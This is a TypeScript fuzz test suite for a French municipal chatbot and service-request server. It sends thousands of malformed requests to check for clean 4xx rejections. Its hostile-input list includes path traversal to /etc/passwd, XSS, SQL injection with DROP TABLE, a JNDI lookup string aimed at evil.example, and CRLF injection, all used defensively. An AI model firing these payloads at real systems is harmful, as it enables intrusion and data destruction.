// Fuzz of every public endpoint: thousands of malformed, oversized, wrongly typed and hostile requests
// (deterministic seed, bounded time) against the real app listening on a port. Never a 5xx, never a
// crash or an unhandled rejection; every rejection is a clear 4xx (a JSON error with code and message,
// an Open311 error, or TwiML/HTML); the server is still healthy afterwards and serves a citizen.
// The endpoint list is read from the app's router, so a route added later is fuzzed too (an unknown
// mount prefix fails the test until it gets a template here).
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import twilio from 'twilio';
import WebSocket from 'ws';
import type { Logger } from '../../bot/logger';
import type { Container } from '../../server/container';
import {
  ACCOUNT_SID,
  AUTH_TOKEN,
  PUBLIC_URL,
  smsParams,
  voiceParams,
  TWILIO_ENV,
} from '../channels/twilio-helpers';
import { createTestContainer } from '../support/harness';

const SEED = Number(process.env.FUZZ_SEED ?? 20261129);
const CASES = Number(process.env.FUZZ_CASES ?? 3000);
// The cases sent within this budget (FUZZ_BUDGET_MS): ~1,000–2,000 on a busy CI machine; raise both locally.
const TIME_BUDGET_MS = Number(process.env.FUZZ_BUDGET_MS ?? 20_000);
const CONCURRENCY = 8;
const ADMIN_TOKEN = 'fuzz-admin-token-0123456789abcdef';

// ------------------------------------------------------------------------------------ deterministic
function mulberry32(seed: number): () => number {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}
const random = mulberry32(SEED);
const int = (min: number, max: number): number => min + Math.floor(random() * (max - min + 1));
const chance = (p: number): boolean => random() < p;
const pick = <T>(items: readonly T[]): T => items[Math.floor(random() * items.length)] as T;

const HOSTILE = [
  '',
  ' ',
  '\u0000',
  '\u0000\u0001\u001f\u007f',
  '../../../../etc/passwd',
  '..%2F..%2Fetc%2Fpasswd',
  '%00',
  '%',
  '%E0%A4%A',
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  "' OR 1=1 --",
  "'; DROP TABLE requests; --",
  '${jndi:ldap://evil.example/a}',
  '{{7*7}}',
  '__proto__',
  'constructor',
  'toString',
  'hasOwnProperty',
  'prototype',
  'a\u0000b',
  '\uD800',
  '\uDFFF\uD800',
  '🚧🕳️🚯',
  '\u202Emoc.elpmaxe',
  'NaN',
  'Infinity',
  '-1',
  '1e309',
  '0x7fffffff',
  'null',
  'undefined',
  'true',
  '[object Object]',
  'wc_',
  'wc_AAAAAAAAAAAAAAAAAAAAAAAA',
  'DEM-2026-000001',
  'DEM-9999-99999999999999999999',
  '+33612345678',
  'whatsapp:+33939980101',
  'CA' + '0'.repeat(32),
  'SM' + 'f'.repeat(32),
  'val-de-loue',
  'demo',
  'oui',
  'STOP',
  '\r\n\r\nHTTP/1.1 200 OK',
  'é'.repeat(300),
];
/** Inputs that once gave 500s: a NUL (PostgreSQL refuses it), lone surrogates, built-in property names. */
const PROPERTY_AND_UNICODE_INPUTS = [
  '\u0000',
  'a\u0000b',
  'constructor',
  '__proto__',
  'toString',
  '\uD800',
  'x\uDFFFy',
];
/** What a PostgreSQL / PGlite message looks like: it must never reach a response. */
const DATABASE_TEXT =
  /invalid byte sequence|unsupported Unicode|violates|invalid input syntax|relation "|column "|syntax error at|Unicode (low|high) surrogate/i;

const randomText = (): string => {
  const r = random();
  if (r < 0.5) return pick(HOSTILE);
  if (r < 0.6) return pick(HOSTILE).repeat(int(2, 50));
  if (r < 0.7) return 'x'.repeat(int(1990, 2100)); // around MAX_TEXT_LENGTH
  if (r < 0.8) return Array.from({ length: int(1, 40) }, () => String.fromCharCode(int(0, 0xffff))).join('');
  return Array.from({ length: int(1, 12) }, () =>
    pick(['bonjour', 'horaires', 'mairie', 'signaler', 'nid', 'de', 'poule', 'oui', 'non', '2', 'agent']),
  ).join(' ');
};
function randomValue(depth = 0): unknown {
  const r = random();
  if (depth > 4 || r < 0.35) return randomText();
  if (r < 0.45) return pick([0, -1, 1.5, 1e308, -0, 9007199254740993, Number.MAX_SAFE_INTEGER, 42]);
  if (r < 0.5) return pick([true, false, null]);
  if (r < 0.7) return Array.from({ length: int(0, 5) }, () => randomValue(depth + 1));
  return Object.fromEntries(
    Array.from({ length: int(0, 5) }, () => [
      pick([...HOSTILE.slice(12, 20), 'text', 'id', 'a', 'lat', 'status']),
      randomValue(depth + 1),
    ]),
  );
}
/** A template's fields with some values replaced, some fields removed, some added. */
function mutate(template: Record<string, unknown>): Record<string, unknown> {
  const out: Record<string, unknown> = {};
  for (const [k, v] of Object.entries(template)) {
    if (chance(0.15)) continue;
    out[k] = chance(0.35) ? randomValue() : v;
  }
  if (chance(0.3)) out[pick(['__proto__', 'constructor', 'extra', 'admin', 'tenantId'])] = randomValue();
  return out;
}
/** encodeURIComponent throws on a lone surrogate: those travel as U+FFFD in URLs (bodies keep them). */
const enc = (text: string): string => encodeURIComponent(text.replace(/[\uD800-\uDFFF]/g, '\uFFFD'));
const deepNesting = (n: number): string => '['.repeat(n) + ']'.repeat(n);

// ------------------------------------------------------------------------------------ the app
interface Layer {
  rawPath?: unknown;
  route?: { path: unknown; methods: Record<string, boolean> };
  handle: { stack?: Layer[] };
}
interface Endpoint {
  method: string;
  path: string;
}

function endpointsOf(container: Container): Endpoint[] {
  const out: Endpoint[] = [];
  const walk = (stack: Layer[], prefix: string): void => {
    for (const layer of stack) {
      if (layer.route) {
        const paths = Array.isArray(layer.route.path) ? layer.route.path : [layer.route.path];
        for (const p of paths)
          for (const m of Object.keys(layer.route.methods))
            out.push({ method: m.toUpperCase(), path: `${prefix}${String(p)}`.replace(/\/+$/, '') || '/' });
      } else if (layer.handle.stack) {
        walk(
          layer.handle.stack,
          prefix + (layer.rawPath === '/' ? '' : String(layer.rawPath ?? '').replace(/\/$/, '')),
        );
      }
    }
  };
  walk((container.app as unknown as { router: { stack: Layer[] } }).router.stack, '');
  return out;
}

const KNOWN_PREFIXES = [
  '/healthz',
  '/readyz',
  '/privacy',
  '/accessibilite',
  '/channels/webchat',
  '/channels/twilio',
  '/api/messages',
  '/api/v1',
  '/open311/v2',
  '/console',
  '/auth',
  '/territoire',
  '/open-data',
  '/',
];

interface Answer {
  status: number;
  type: string;
  body: string;
}

interface Case {
  method: string;
  path: string;
  headers: Record<string, string>;
  body?: Buffer | string;
  what: string;
}

function send(port: number, agent: http.Agent, c: Case): Promise<Answer> {
  return new Promise((resolve, reject) => {
    const body = c.body === undefined ? undefined : Buffer.isBuffer(c.body) ? c.body : Buffer.from(c.body);
    // Header values must be valid for Node's client: hostile text travels %-encoded there.
    const headers: Record<string, string | number> = Object.fromEntries(
      Object.entries(c.headers).map(([k, v]) => [k, /[^\t\x20-\x7e\x80-\xff]/.test(v) ? enc(v) : v]),
    );
    if (body) headers['content-length'] = body.length;
    const req = http.request(
      { host: '127.0.0.1', port, method: c.method, path: c.path, agent, headers },
      (res) => {
        // An event stream (the back-office live feed) never ends by itself: its accepted headers are the answer.
        if (String(res.headers['content-type'] ?? '').startsWith('text/event-stream')) {
          resolve({ status: res.statusCode ?? 0, type: 'text/event-stream', body: '' });
          req.destroy();
          return;
        }
        const chunks: Buffer[] = [];
        res.on('data', (d: Buffer) => chunks.push(d));
        res.on('end', () =>
          resolve({
            status: res.statusCode ?? 0,
            type: String(res.headers['content-type'] ?? ''),
            body: Buffer.concat(chunks).toString('utf8'),
          }),
        );
        res.on('error', reject);
      },
    );
    req.setTimeout(15_000, () => req.destroy(new Error(`timeout: ${c.what}`)));
    req.on('error', reject);
    req.end(body);
  });
}

/** A rejection a client can act on: a JSON error with code and message, an Open311 error, TwiML or HTML. */
function clearRejection(a: Answer): boolean {
  if (a.type.includes('json')) {
    try {
      const parsed = JSON.parse(a.body) as unknown;
      if (Array.isArray(parsed))
        return typeof (parsed[0] as { description?: unknown })?.description === 'string';
      const error = (parsed as { error?: { code?: unknown; message?: unknown } }).error;
      return typeof error?.code === 'string' && typeof error.message === 'string' && error.message.length > 0;
    } catch {
      return false;
    }
  }
  return /xml|html/.test(a.type) && a.body.trim().length > 0;
}

// ------------------------------------------------------------------------------------ the suite
let container: Container;
let server: http.Server;
let port: number;
const errors: string[] = [];
const unhandled: unknown[] = [];
const onUnhandled = (reason: unknown): void => {
  unhandled.push(reason);
};

beforeAll(async () => {
  const capture = (level: string) => (msg: string, fields?: Record<string, unknown>) => {
    if (level === 'error') errors.push(`${msg} ${JSON.stringify(fields ?? {})}`);
  };
  const logger: Logger = { info: capture('info'), warn: capture('warn'), error: capture('error') };
  container = await createTestContainer(
    {
      ...TWILIO_ENV,
      ADMIN_TOKEN,
      RATE_LIMIT_SENDER_PER_MINUTE: '100000',
      RETENTION_INTERVAL_MINUTES: '0',
      // Reports with addresses and positions by the hundred: never to the real address API (refused at once here).
      GEOCODER_URL: 'http://127.0.0.1:1',
    },
    { logger },
  );
  server = container.app.listen(0, '127.0.0.1');
  await new Promise((resolve) => server.once('listening', resolve));
  port = (server.address() as AddressInfo).port;
  process.on('unhandledRejection', onUnhandled);
}, 120_000);
afterAll(async () => {
  process.off('unhandledRejection', onUnhandled);
  server.closeAllConnections();
  await new Promise((resolve) => server.close(resolve));
  await container.close();
});

describe('fuzz of every public endpoint', () => {
  it(`never answers 5xx nor crashes; every rejection is a clear 4xx (seed ${SEED})`, async () => {
    const endpoints = endpointsOf(container);
    // Every mount is one we know how to fuzz (a new one must be added to KNOWN_PREFIXES and templates).
    const known = (path: string): boolean =>
      KNOWN_PREFIXES.some((k) => (k === '/' ? path === '/' : path === k || path.startsWith(`${k}/`)));
    expect(endpoints.filter((e) => !known(e.path))).toEqual([]);
    expect(endpoints.length).toBeGreaterThan(30);

    // A real conversation, so some cases carry a valid id and token and reach the engine.
    const opened = JSON.parse(
      (
        await send(port, new http.Agent(), {
          method: 'POST',
          path: '/channels/webchat/messages',
          headers: { 'content-type': 'application/json' },
          body: '{"text":"bonjour"}',
          what: 'open',
        })
      ).body,
    ) as { conversationId: string; token: string };

    const cases: Case[] = [];
    for (let i = 0; i < CASES; i++) cases.push(makeCase(pick(endpoints), opened));
    const agent = new http.Agent({ keepAlive: true, maxSockets: CONCURRENCY });
    const started = Date.now();
    const failures: string[] = [];
    const statuses = new Map<number, number>();
    let next = 0;
    let sent = 0;
    await Promise.all(
      Array.from({ length: CONCURRENCY }, async () => {
        while (next < cases.length && Date.now() - started < TIME_BUDGET_MS) {
          const c = cases[next++]!;
          let answer: Answer;
          try {
            answer = await send(port, agent, c);
          } catch (error) {
            // A connection the server closed on purpose (a body above the limit) is a refusal, not a crash.
            if (c.what.includes('oversized')) continue;
            failures.push(`${c.what}: no answer (${String(error)})`);
            continue;
          }
          sent += 1;
          statuses.set(answer.status, (statuses.get(answer.status) ?? 0) + 1);
          if (answer.status >= 500)
            failures.push(`${c.what} → ${answer.status} ${answer.body.slice(0, 200)}`);
          else if (answer.status >= 400 && !clearRejection(answer))
            failures.push(
              `${c.what} → ${answer.status} unclear: ${answer.type} ${answer.body.slice(0, 120)}`,
            );
        }
      }),
    );
    agent.destroy();
    const ms = Date.now() - started;
    console.log(
      `[figures] fuzz: ${sent} requests over ${endpoints.length} endpoints in ${ms} ms, statuses ${JSON.stringify(Object.fromEntries([...statuses].sort((a, b) => a[0] - b[0])))}`,
    );

    if (failures.length > 0)
      console.log(`[fuzz] server errors logged:\n${[...new Set(errors)].slice(0, 30).join('\n')}`);
    expect(failures.slice(0, 20)).toEqual([]);
    expect(sent).toBeGreaterThan(500);
    expect(errors.filter((e) => /unhandled error/.test(e))).toEqual([]);
    expect(unhandled).toEqual([]);
  }, 90_000);

  it('answers NUL, lone surrogates and built-in property names in every field of every endpoint with a 2xx or a clear 4xx, never database text', async () => {
    const agent = new http.Agent({ keepAlive: true, maxSockets: CONCURRENCY });
    const opened = JSON.parse(
      (
        await send(port, agent, {
          method: 'POST',
          path: '/channels/webchat/messages',
          headers: { 'content-type': 'application/json' },
          body: '{"text":"bonjour"}',
          what: 'open',
        })
      ).body,
    ) as { conversationId: string; token: string };
    const failures: string[] = [];
    const check = (c: Case, a: Answer): void => {
      if (a.status >= 500) failures.push(`${c.what} → ${a.status} ${a.body.slice(0, 160)}`);
      else if (a.status >= 400 && !clearRejection(a)) failures.push(`${c.what} → ${a.status} unclear`);
      if (DATABASE_TEXT.test(a.body)) failures.push(`${c.what} → database text: ${a.body.slice(0, 160)}`);
      if (/momentanément indisponible/.test(a.body)) failures.push(`${c.what} → degraded reply`);
    };
    const endpoints = endpointsOf(container).filter((e) => e.path !== '/channels/webchat/ws');
    const cases: Case[] = [];
    for (const endpoint of endpoints) {
      const path = endpoint.path.replace(/:(\w+)/g, () => opened.conversationId);
      const authorization = { authorization: `Bearer ${ADMIN_TOKEN}` };
      for (const input of PROPERTY_AND_UNICODE_INPUTS) {
        if (endpoint.method === 'GET' || endpoint.method === 'DELETE') {
          for (const name of ['q', 'tenant', 'status', 'cursor', 'api_key', 'service_request_id']) {
            cases.push({
              method: endpoint.method,
              path: `${path}?${name}=${encodeURIComponent(input.replace(/[\uD800-\uDFFF]/g, '\uFFFD'))}`,
              headers: authorization,
              what: `${endpoint.method} ${path} ?${name}=${JSON.stringify(input)}`,
            });
          }
          continue;
        }
        const template = templateFor(path, opened);
        for (const field of Object.keys(template.fields)) {
          const fields: Record<string, unknown> = { ...template.fields, [field]: input };
          if (template.kind === 'form') {
            const form = Object.fromEntries(
              Object.entries(fields).map(([k, v]) => [k, typeof v === 'string' ? v : JSON.stringify(v)]),
            );
            cases.push({
              method: endpoint.method,
              path,
              headers: {
                ...authorization,
                'content-type': 'application/x-www-form-urlencoded',
                ...(path.startsWith('/channels/twilio')
                  ? {
                      'x-twilio-signature': twilio.getExpectedTwilioSignature(
                        AUTH_TOKEN,
                        `${PUBLIC_URL}${path}`,
                        form,
                      ),
                    }
                  : {}),
              },
              body: new URLSearchParams(form).toString(),
              what: `${endpoint.method} ${path} form ${field}=${JSON.stringify(input)}`,
            });
          } else {
            cases.push({
              method: endpoint.method,
              path,
              headers: { ...authorization, 'content-type': 'application/json' },
              body: JSON.stringify(fields),
              what: `${endpoint.method} ${path} json ${field}=${JSON.stringify(input)}`,
            });
          }
        }
      }
    }
    // A NUL in the query string travels %-encoded (%00): the server decodes it like any client's.
    for (const path of [
      '/api/v1/requests',
      '/api/v1/conversations',
      '/api/v1/contacts',
      '/open311/v2/requests.json',
    ])
      cases.push({
        method: 'GET',
        path: `${path}?q=a%00b&jurisdiction_id=val-de-loue`,
        headers: { authorization: `Bearer ${ADMIN_TOKEN}` },
        what: `GET ${path}?q=a%00b`,
      });
    let next = 0;
    await Promise.all(
      Array.from({ length: CONCURRENCY }, async () => {
        while (next < cases.length) {
          const c = cases[next++]!;
          try {
            check(c, await send(port, agent, c));
          } catch (error) {
            failures.push(`${c.what}: no answer (${String(error)})`);
          }
        }
      }),
    );
    agent.destroy();
    expect(cases.length).toBeGreaterThan(500);
    expect(failures.slice(0, 20)).toEqual([]);
  }, 120_000);

  it('answers a citizen who types a built-in property name like any other word, on web chat and SMS', async () => {
    const agent = new http.Agent();
    for (const word of ['constructor', '__proto__', 'toString', 'hasOwnProperty', 'valueOf']) {
      const web = await send(port, agent, {
        method: 'POST',
        path: '/channels/webchat/messages',
        headers: { 'content-type': 'application/json' },
        body: JSON.stringify({ text: word }),
        what: word,
      });
      expect([word, web.status]).toEqual([word, 200]);
      expect(web.body).not.toMatch(/momentanément indisponible/);
      const form = smsParams({ From: `+3367${int(1000000, 9999999)}`, Body: word });
      const sms = await send(port, agent, {
        method: 'POST',
        path: '/channels/twilio/sms',
        headers: {
          'content-type': 'application/x-www-form-urlencoded',
          'x-twilio-signature': twilio.getExpectedTwilioSignature(
            AUTH_TOKEN,
            `${PUBLIC_URL}/channels/twilio/sms`,
            form,
          ),
        },
        body: new URLSearchParams(form).toString(),
        what: `sms ${word}`,
      });
      expect([word, sms.status]).toEqual([word, 200]);
      expect(sms.body).toMatch(/<Message>/);
      expect(sms.body).not.toMatch(/momentanément indisponible/);
    }
  }, 60_000);

  it('refuses hostile WebSocket upgrades and frames without falling over', async () => {
    const url = (q: string) => `ws://127.0.0.1:${port}/channels/webchat/ws${q}`;
    const refused = (q: string, headers: Record<string, string> = {}) =>
      new Promise<number>((resolve) => {
        const ws = new WebSocket(url(q), { headers });
        ws.on('unexpected-response', (_req, res) => {
          resolve(res.statusCode ?? 0);
          ws.terminate();
        });
        ws.on('open', () => {
          resolve(101);
          ws.close();
        });
        ws.on('error', () => resolve(-1));
      });
    for (const q of [
      '',
      '?conversationId=..%2F..&token=x',
      `?conversationId=wc_${'A'.repeat(30)}&token=forged`,
      `?conversationId=${'x'.repeat(5000)}&token=y`,
    ]) {
      const status = await refused(q, { Origin: 'https://evil.example' });
      expect(status === -1 || (status >= 400 && status < 500)).toBe(true);
    }

    // A genuine socket sending junk: non-JSON, binary, oversized, a flood. The server closes it, and lives on.
    const res = await send(port, new http.Agent(), {
      method: 'POST',
      path: '/channels/webchat/messages',
      headers: { 'content-type': 'application/json' },
      body: '{"text":"bonjour"}',
      what: 'open ws',
    });
    const { conversationId, token } = JSON.parse(res.body) as { conversationId: string; token: string };
    const ws = new WebSocket(
      url(`?conversationId=${conversationId}&token=${encodeURIComponent(token)}&tenant=demo`),
    );
    const closed = new Promise<number>((resolve) => ws.on('close', (code) => resolve(code)));
    ws.on('error', () => undefined);
    await new Promise((resolve) => ws.once('open', resolve));
    ws.send('not json');
    ws.send(Buffer.from([0xff, 0x00, 0xfe]));
    ws.send(JSON.stringify({ type: 'ping', extra: randomValue() }));
    ws.send('x'.repeat(10_000));
    for (let i = 0; i < 50 && ws.readyState === WebSocket.OPEN; i++) ws.send('{"type":"ping"}');
    const code = await closed;
    expect([1008, 1009, 1003, 1006]).toContain(code);
  }, 30_000);

  it('is still healthy and serving citizens afterwards', async () => {
    const agent = new http.Agent();
    expect(
      (await send(port, agent, { method: 'GET', path: '/healthz', headers: {}, what: 'health' })).status,
    ).toBe(200);
    expect(
      (await send(port, agent, { method: 'GET', path: '/readyz', headers: {}, what: 'ready' })).status,
    ).toBe(200);
    const turn = await send(port, agent, {
      method: 'POST',
      path: '/channels/webchat/messages',
      headers: { 'content-type': 'application/json' },
      body: '{"text":"quels sont les horaires de la mairie ?"}',
      what: 'citizen',
    });
    expect(turn.status).toBe(200);
    expect(turn.body).toMatch(/mairie/i);
  });
});

// ------------------------------------------------------------------------------------ cases
function fillPath(path: string, opened: { conversationId: string }): string {
  return path.replace(/:(\w+)/g, (_m, name: string) => {
    if (name === 'id' && chance(0.2)) return opened.conversationId;
    if (chance(0.1)) return '00000000-0000-0000-0000-000000000000';
    return enc(randomText()).slice(0, chance(0.05) ? 5000 : 300) || 'x';
  });
}

function query(): string {
  if (chance(0.5)) return '';
  const params = Array.from(
    { length: int(1, 6) },
    () =>
      `${enc(pick(['tenant', 'limit', 'cursor', 'status', 'from', 'to', 'q', 'step', 'n', 'api_key', 'jurisdiction_id', 'service_code', 'start_date', 'lat', 'x', '__proto__']))}=${enc(randomText()).slice(0, 400)}`,
  );
  if (chance(0.05)) params.push(`a=${'b'.repeat(5000)}`);
  if (chance(0.05)) params.push('tenant=a&tenant=b&limit[]=1');
  return `?${params.join('&')}`;
}

function templateFor(
  path: string,
  opened: { conversationId: string; token: string },
): { kind: 'json' | 'form'; fields: Record<string, unknown> } {
  if (path.startsWith('/channels/webchat/messages')) {
    return {
      kind: 'json',
      fields: {
        text: 'bonjour',
        ...(chance(0.5) ? opened : {}),
        clientMessageId: `f${int(0, 1e9)}`,
        choiceValue: 'intent:opening_hours',
        locale: 'fr',
        tenant: 'demo',
        location: { lat: 47.1, lon: 6.05 },
      },
    };
  }
  if (path.startsWith('/channels/twilio/sms'))
    return {
      kind: 'form',
      fields: smsParams({ From: `+336${int(10000000, 99999999)}`, Body: randomText().slice(0, 300) }),
    };
  if (path.startsWith('/channels/twilio/voice'))
    return {
      kind: 'form',
      fields: voiceParams(`CA${int(1e8, 9e8)}${'a'.repeat(23)}`, `+336${int(10000000, 99999999)}`, {
        SpeechResult: randomText().slice(0, 200),
        Digits: pick(['1', '2', '#', '*9', 'abc']),
      }),
    };
  if (path.startsWith('/api/messages')) {
    return {
      kind: 'json',
      fields: {
        type: 'message',
        text: 'bonjour',
        from: { id: 'u1' },
        recipient: { id: 'b1' },
        conversation: { id: 'c1' },
        channelId: 'msteams',
        serviceUrl: 'https://smba.trafficmanager.net/emea/',
      },
    };
  }
  if (path.startsWith('/open311')) {
    return {
      kind: chance(0.5) ? 'form' : 'json',
      fields: {
        api_key: ADMIN_TOKEN,
        jurisdiction_id: 'val-de-loue',
        service_code: 'voirie',
        lat: 47.1,
        long: 6.05,
        address_string: '12 rue des Lilas',
        description: 'trou',
        email: 'a@b.fr',
        media_url: 'https://x.example/p.jpg',
      },
    };
  }
  if (path.startsWith('/api/v1')) {
    return {
      kind: 'json',
      fields: {
        status: pick(['received', 'in_progress', 'resolved', 'rejected', 'nope']),
        note: 'ok',
        assignedTo: 'agent-1',
        text: 'bonjour',
        role: pick(['agent', 'admin', 'readonly']),
        tenantId: pick(['val-de-loue', 'autre-commune', 'x']),
        name: 'n',
        url: 'https://hooks.example/x',
        events: ['request.created'],
      },
    };
  }
  return { kind: 'json', fields: { text: 'x' } };
}

function makeCase(endpoint: Endpoint, opened: { conversationId: string; token: string }): Case {
  const method = chance(0.07) ? pick(['PUT', 'PATCH', 'DELETE', 'OPTIONS', 'TRACE']) : endpoint.method;
  const path = fillPath(endpoint.path, opened) + query();
  const headers: Record<string, string> = {};
  const authenticated = path.startsWith('/api/v1') || path.startsWith('/open311');
  if (authenticated && chance(0.6))
    headers.authorization = chance(0.7)
      ? `Bearer ${ADMIN_TOKEN}`
      : pick([
          `Bearer ${randomText().slice(0, 100)}`,
          'Basic Zm9vOmJhcg==',
          'Bearer',
          randomText().slice(0, 100),
        ]);
  if (chance(0.15))
    headers.origin = pick([
      'https://evil.example',
      'null',
      'http://localhost:3000',
      randomText().slice(0, 50),
    ]);
  if (chance(0.1))
    headers['x-forwarded-for'] = pick([
      '203.0.113.9',
      '1.2.3.4, junk',
      'not-an-ip',
      '::1',
      randomText().slice(0, 40),
    ]);
  if (chance(0.1)) headers['x-conversation-token'] = randomText().slice(0, 200);
  if (chance(0.1)) headers.accept = pick(['application/xml', 'text/html', '*/*', 'x/y']);

  const what = `${method} ${path.slice(0, 120)}`;
  if (method === 'GET' || method === 'DELETE' || method === 'OPTIONS' || method === 'TRACE') {
    return { method, path, headers, what };
  }
  const template = templateFor(path, opened);
  const r = random();
  if (r < 0.04)
    return {
      method,
      path,
      headers: { ...headers, 'content-type': 'application/json' },
      body: Buffer.alloc(300 * 1024, 'a'),
      what: `${what} oversized`,
    };
  if (r < 0.08)
    return {
      method,
      path,
      headers: { ...headers, 'content-type': 'application/json' },
      body: pick(['{', '{"text":}', '{"text":"a",}', 'nul', '"\\ud800"', '[1,2', '{"a":1}{"b":2}', '\u0000']),
      what: `${what} bad json`,
    };
  if (r < 0.1)
    return {
      method,
      path,
      headers: { ...headers, 'content-type': 'application/json' },
      body: deepNesting(int(100, 5000)),
      what: `${what} deep json`,
    };
  if (r < 0.13)
    return {
      method,
      path,
      headers: {
        ...headers,
        'content-type': pick([
          'text/plain',
          'application/xml',
          'multipart/form-data; boundary=x',
          'application/octet-stream',
          'application/json; charset=utf-16',
          'application/x-www-form-urlencoded; charset=koi8-r',
        ]),
      },
      body: randomText(),
      what: `${what} wrong type`,
    };
  if (r < 0.15)
    return {
      method,
      path,
      headers: {
        ...headers,
        'content-type': 'application/json',
        'content-encoding': pick(['gzip', 'br', 'x-evil']),
      },
      body: '{"text":"bonjour"}',
      what: `${what} bad encoding`,
    };
  if (r < 0.17)
    return {
      method,
      path,
      headers: { ...headers, 'content-type': 'application/x-www-form-urlencoded' },
      body: Array.from({ length: 2000 }, (_, i) => `k${i}=v`).join('&'),
      what: `${what} many params`,
    };
  if (r < 0.2)
    return {
      method,
      path,
      headers: { ...headers, 'content-type': 'application/json' },
      body: JSON.stringify(randomValue()),
      what: `${what} random json`,
    };

  const fields = mutate(template.fields);
  if (template.kind === 'form') {
    const form: Record<string, string> = Object.fromEntries(
      Object.entries(fields).map(([k, v]) => [k, typeof v === 'string' ? v : (JSON.stringify(v) ?? '')]),
    );
    if (path.startsWith('/channels/twilio') && chance(0.7)) {
      // Signed like Twilio, so the case gets past the signature check into the channel and the engine.
      form.AccountSid ??= ACCOUNT_SID;
      headers['x-twilio-signature'] = twilio.getExpectedTwilioSignature(
        AUTH_TOKEN,
        `${PUBLIC_URL}${path}`,
        form,
      );
    } else if (path.startsWith('/channels/twilio')) {
      headers['x-twilio-signature'] = pick(['', 'AAAA', randomText().slice(0, 60)]);
    }
    const body = new URLSearchParams(form).toString();
    return {
      method,
      path,
      headers: { ...headers, 'content-type': 'application/x-www-form-urlencoded' },
      body,
      what: `${what} form`,
    };
  }
  return {
    method,
    path,
    headers: { ...headers, 'content-type': 'application/json' },
    body: JSON.stringify(fields),
    what: `${what} json`,
  };
}
